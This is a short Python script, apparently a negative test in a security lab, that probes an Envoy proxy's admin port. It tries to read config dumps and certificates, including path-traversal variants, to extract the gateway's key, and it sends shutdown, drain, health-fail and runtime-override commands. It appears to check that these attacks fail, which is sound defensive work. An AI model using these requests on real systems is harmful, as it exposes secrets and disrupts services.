# tries: reads the gateway's key out of Envoy's admin port, and orders Envoy to stop, to drain and to log it
# ends: fail objective-missed
# lab: canary
import urllib.error
import urllib.request

from attempts import attempt, later

READS = [
    "config_dump",
    "config_dump?include_eds",
    "certs",
    "memory",
    "server_info",
    "contention",
    "runtime/../config_dump",
]
READS += [
    "init_dump",
    "stats/../config_dump",
    "runtime%2f..%2fconfig_dump",
    "help",
    "hystrix_event_stream",
    "ready/../certs",
]
ORDERS = ["quitquitquit", "drain_listeners", "healthcheck/fail", "logging?level=trace", "reset_counters", "cpuprofiler"]
ORDERS += ["runtime_modify?overload.global_downstream_max_connections=0", "heap_dump", "reopen_logs", "tap"]
ORDERS += [
    "runtime_modify?split.v1=50&envoy.reloadable_features.x=false",
    "runtime_modify?upstream.healthy_panic_threshold=0",
]


def asked(method, path):
    request = urllib.request.Request(f"http://gateway:9901/{path}", method=method)
    try:
        with urllib.request.urlopen(request, timeout=2) as answer:
            return answer.read(200)
    except urllib.error.HTTPError as error:
        error.close()
        raise RuntimeError(error.code) from None


def run():
    for path in READS:
        attempt(f"reading {path}", lambda: asked("GET", path))
    for path in ORDERS:
        attempt(f"ordering {path}", lambda: asked("POST", path))


later(run, 0.5)
